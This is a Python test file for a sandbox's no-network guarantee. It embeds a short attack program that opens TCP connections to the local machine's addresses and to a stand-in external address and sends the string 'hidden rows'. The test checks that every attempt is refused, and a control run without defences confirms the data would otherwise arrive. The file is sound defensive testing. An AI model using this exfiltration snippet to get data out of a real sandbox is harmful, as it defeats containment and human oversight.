"""Row 19: a connection out, to the machine itself or to the world."""

from sandbox.guarantees import Guarantee
from tests.attacks.arena import Arena
from tests.attacks.host import listening, own_addresses
from tests.attacks.registry import case

PROGRAM = """
def attack(addresses, port):
    for address in addresses:
        try:
            with socket.create_connection((address, port), 1) as stream:
                stream.sendall(b"hidden rows")
            print("sent")
        except OSError:
            print("refused")
"""


@case(19, "TCP out", needs=(Guarantee.NO_NETWORK,))
def tcp(arena: Arena) -> None:
    addresses = [*own_addresses(), "192.0.2.1"]
    with listening() as listener:
        after = arena.attack(PROGRAM, addresses=addresses, port=listener.port)
    assert listener.received == []
    assert after.lines == ["refused"] * len(addresses)
    assert (after.state, after.outcome) == ("scored", "ok")


@tcp.control
def the_listener_hears_a_process_of_the_machine(arena: Arena) -> None:
    addresses = own_addresses()
    with listening() as listener:
        seen = arena.undefended(PROGRAM, addresses=addresses, port=listener.port)
    assert seen.lines == ["sent"] * len(addresses)
    assert listener.received == [b"hidden rows"] * len(addresses)
